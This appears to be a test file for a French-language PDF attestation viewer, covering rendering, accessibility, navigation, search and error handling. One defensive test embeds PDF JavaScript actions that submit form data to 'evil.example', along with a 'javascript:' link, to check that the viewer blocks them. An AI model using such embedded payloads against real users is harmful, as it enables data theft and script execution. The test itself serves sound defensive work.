import { AttestationViewer } from '@avenant/elements';
import { expect } from 'chai';
import { print } from '../../packages/sandbox/dist/world/paper.js';
import { changes } from './kit/changes.ts';
import { attestation } from './kit/company-answers.ts';
import { says } from './kit/deposit-stage.ts';
import { goodFace } from './kit/good-face.ts';
import { keys, tabTo, write } from './kit/hand.ts';
import { listen } from './kit/heard.ts';
import { StubInsurer } from './kit/insurer.ts';
import { all, field, find, focused, get, query } from './kit/roles.ts';
import { mount } from './kit/stage.ts';
import { swiftly } from './kit/swift-clock.ts';
import { shownElements, textOf } from './kit/visible-text.ts';

/** A small PDF: each page says its text; `more` are further entries of the catalogue, `annots` of each page, `others` further objects. */
function pdf(pages: readonly string[], more = '', annots = '', others: readonly string[] = []): string {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    `<< /Type /Pages /Kids [${pages.map((_, i) => `${4 + 2 * i} 0 R`).join(' ')}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...pages.flatMap((text, i) => {
      const content = `/Span << /MCID 0 >> BDC BT /F1 16 Tf 64 760 Td (${text}) Tj ET EMC`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + 2 * i} 0 R /Resources << /Font << /F1 3 0 R >> >> ${annots} >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ];
    }),
    ...others,
  ];
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, i) => {
    const at = body.length;
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  return `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
}
const addressOf = (body: BlobPart) => URL.createObjectURL(new Blob([body], { type: 'application/pdf' }));
const three = ['Attestation d\\222assurance', 'Activit\\351s garanties', 'Conditions'];
const expiresAt = '2026-11-21T08:01:00Z';
const leadingTo = (url: string) => new StubInsurer().on('documents.link', () => ({ url, expiresAt }));

async function opened(insurer: StubInsurer) {
  const mounted = mount(AttestationViewer, {}, { insurer });
  (await find('button', /^Ouvrir l’attestation/)).focus();
  await keys('Enter');
  await find('dialog', 'Attestation d’assurance décennale');
  return mounted;
}
const ready = () => find('group', 'Outils de lecture');
const page = (number: number, of = 3) => get('group', `Page ${number} sur ${of}`);
const wordsOn = (number: number, of?: number) => textOf(page(number, of));

describe('the reader of PDFs', () => {
  it('A18: a press shows the paper, whose words are there to be selected and read aloud; Escape leads back', async () => {
    const { element, insurer } = await opened(leadingTo(addressOf(pdf(three))));
    await ready();
    await changes.until(() => wordsOn(1).includes('Attestation d’assurance'));
    expect(insurer.of('documents.link')).to.have.length(1);
    expect(textOf(focused()!)).to.equal('Attestation d’assurance décennale');
    const [canvas] = [...shownElements(page(1))].filter((it) => it.matches('canvas')) as HTMLCanvasElement[];
    const { data } = canvas!.getContext('2d')!.getImageData(0, 0, canvas!.width, canvas!.height);
    expect(
      data.some((octet) => octet < 128),
      'something is drawn',
    ).to.equal(true);
    get('button', /^Télécharger \(PDF, 3 Ko\)/, get('dialog'));
    await goodFace(element);
    await keys('Escape');
    await changes.until(() => query('dialog') === null);
    expect(focused()).to.equal(get('button', /^Ouvrir l’attestation/));
  });

  it('what is a heading or a list in the paper is one in the page, in the paper’s language; its ornaments are not read', async () => {
    const long = Array.from({ length: 50 }, (_, i) => `Paragraphe ${i + 1}.`);
    const lines = ['Contrat n° BAT-774120.', ['Effectif : 14', 'Chantiers : 3'], ...long];
    const paper = await print({ title: 'Relevé de bases', author: 'La Bâtisseuse', at: '2026-11-20T08:00:00Z', lines });
    const { element } = await opened(leadingTo(addressOf(paper)));
    await ready();
    const title = await find('heading', 'Relevé de bases', page(1, 2));
    expect(title.getAttribute('aria-level'), 'below the reader’s own').to.equal('3');
    expect(title.closest('[lang]')!.getAttribute('lang')).to.equal('fr-FR');
    expect(all('list', undefined, page(1, 2)).map((list) => all('listitem', undefined, list).map(textOf))).to.deep.equal([
      ['Effectif : 14', 'Chantiers : 3'],
    ]);
    const order = Array.from(page(1, 2).querySelectorAll('[role]:not([role=presentation])'), (it) => it.getAttribute('role'));
    expect(order.slice(0, 6)).to.deep.equal(['paragraph', 'heading', 'paragraph', 'list', 'listitem', 'listitem']);
    expect(page(1, 2).querySelector('[aria-hidden] > span')!.textContent).to.equal('1 / 2');
    await goodFace(element);
  });

  for (const role of ['constructor', 'toString', 'Figure'])
    it(`F18: a piece that its paper calls « ${role} » is words like others`, async () => {
      const structure = [
        '<< /Type /StructTreeRoot /K 7 0 R /ParentTree << /Nums [0 [7 0 R]] >> >>',
        `<< /Type /StructElem /S /${role} /P 6 0 R /Pg 4 0 R /K 0 >>`,
      ];
      const more = '/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R';
      await opened(leadingTo(addressOf(pdf(['Conditions'], more, '/StructParents 0', structure))));
      await ready();
      await changes.until(() => wordsOn(1, 1).includes('Conditions'));
      expect(page(1, 1).querySelectorAll('.markedContent'), 'it is marked').to.have.length(1);
      expect(page(1, 1).querySelectorAll('[role]:not([role=presentation])')).to.have.length(0);
    });

  it('by the keyboard: pages are turned, made larger, turned round; each says what it has done', async () => {
    const { element } = await opened(leadingTo(addressOf(pdf(three))));
    await ready();
    const heard = listen(element);
    await tabTo((at) => at.getAttribute('aria-label') === 'Page suivante');
    await keys('Enter');
    await changes.until(() => heard.includes('Page 2 sur 3'));
    await changes.until(() => wordsOn(2).includes('Activités garanties'));
    write(field('Page'), '9');
    await keys('Enter');
    await changes.until(() => heard.includes('Saisissez un numéro de page de 1 à 3.'));
    expect(field('Page').getAttribute('aria-invalid')).to.equal('true');
    const { width, height } = page(1).getBoundingClientRect();
    await tabTo((at) => at.getAttribute('aria-label') === 'Agrandir');
    await keys('Enter');
    await changes.until(() => heard.includes('Zoom 125 %'));
    expect(page(1).getBoundingClientRect().width).to.be.closeTo(width * 1.25, 2);
    await tabTo((at) => at.getAttribute('aria-label') === 'Faire pivoter');
    await keys('Enter');
    await changes.until(() => heard.includes('Document pivoté de 90 degrés'));
    expect(page(1).getBoundingClientRect().height).to.be.below(height * 1.25);
    await goodFace(element);
  });

  it('finds words on pages that are not drawn yet, without their accents; says so where there are none', async () => {
    const { element } = await opened(leadingTo(addressOf(pdf(three))));
    await ready();
    const heard = listen(element);
    write(field('Rechercher dans le document'), 'activites');
    await keys('Enter');
    await changes.until(() => heard.includes('Trouvé page 2'));
    await changes.until(() => wordsOn(2).includes('Activités garanties'));
    write(field('Rechercher dans le document'), 'pivoine');
    await keys('Enter');
    await changes.until(() => heard.includes('« pivoine » ne figure pas dans ce document.'));
  });

  const bad: [what: string, url: () => string, words: string][] = [
    ['broken', () => addressOf('%PDF-1.7\nnothing of a PDF'), 'Ce document est endommagé'],
    ['not a PDF at all', () => addressOf('<!doctype html><script>avenantHit = 1</script>'), 'Ce document est endommagé'],
    ['empty', () => addressOf(''), 'Ce document est endommagé'],
    ['encrypted', () => '/test/fixtures/user-password-r6.pdf', 'Ce document est protégé par un mot de passe'],
  ];
  for (const [what, url, words] of bad)
    it(`F38: one that is ${what} ends in a sentence and a download`, async () => {
      const { element } = await opened(leadingTo(url()));
      await says(element, words);
      get('button', /^Télécharger \(PDF/, get('dialog'));
      expect(query('group', 'Outils de lecture')).to.equal(null);
      await goodFace(element);
    });

  it('F38: what is active in a PDF does nothing: no script, no dialog, no request', async () => {
    const js = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.example"\\); avenantHit = 1) >>';
    const more = `/OpenAction ${js} /AA << /WC ${js} >> /Names << /JavaScript << /Names [(a) ${js}] >> >>`;
    const annots = `/AA << /O ${js} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:avenantHit=1) >> >>]`;
    const { element } = await opened(leadingTo(addressOf(pdf(three, more, annots))));
    await ready();
    await changes.until(() => wordsOn(1).includes('Attestation d’assurance'));
    await changes.settled();
    expect((globalThis as { avenantHit?: number }).avenantHit).to.equal(undefined);
    expect([...shownElements(element)].filter((it) => it.matches('a[href*=script], iframe, object, embed, script'))).to.deep.equal([]);
    const elsewhere = performance
      .getEntriesByType('resource')
      .filter(({ name }) => !name.startsWith(location.origin) && !name.startsWith('blob:'));
    expect(elsewhere).to.deep.equal([]);
  });

  it('F38: one that never shows is given up, and its worker with it', async () => {
    const insurer = new StubInsurer();
    insurer.hold('documents.link');
    const { element } = mount(AttestationViewer, {}, { insurer });
    (await find('button', /^Ouvrir l’attestation/)).focus();
    await swiftly(100, async () => {
      await keys('Enter');
      await says(element, 'Ce document ne s’affiche pas.');
      get('button', /^Télécharger \(PDF/, get('dialog'));
    });
  });

  it('F1: a link that fails is said, and a press tries again', async () => {
    const insurer = new StubInsurer().fail('documents.link', 'upstream-unavailable');
    const { element } = await opened(insurer);
    await says(element, 'Le service ne répond pas. Réessayez dans quelques minutes.');
    await goodFace(element);
    const url = addressOf(pdf(three));
    insurer.on('documents.link', () => ({ url, expiresAt }));
    get('button', 'Réessayer').click();
    await ready();
    await changes.until(() => wordsOn(1).includes('Attestation d’assurance'));
  });

  it('of a server that knows no ranges a large paper is taken once, not a second time for its end', async () => {
    const document = { documentId: 'doc_1', filename: 'attestation.pdf', bytes: 300_000 };
    const insurer = leadingTo('https://documents.example/one').on('attestations.list', () => ({ items: [attestation({ document })] }));
    const { fetch } = globalThis;
    const taken: (string | undefined)[] = [];
    globalThis.fetch = async (_, { headers, signal } = {}) => {
      const { Range: range } = headers as { Range?: string };
      taken.push(range);
      if (range?.startsWith('bytes=0-')) return new Response(pdf(three));
      // Its body is on its way, as long as somebody wants it.
      return new Promise((_, reject) =>
        signal!.addEventListener('abort', () => {
          taken.push('aborted');
          reject(signal!.reason as Error);
        }),
      );
    };
    try {
      await opened(insurer);
      await ready();
      await changes.until(() => wordsOn(1).includes('Attestation d’assurance'));
    } finally {
      globalThis.fetch = fetch;
    }
    expect(taken).to.deep.equal(['bytes=0-65535', 'bytes=267232-299999', 'aborted']);
  });
});
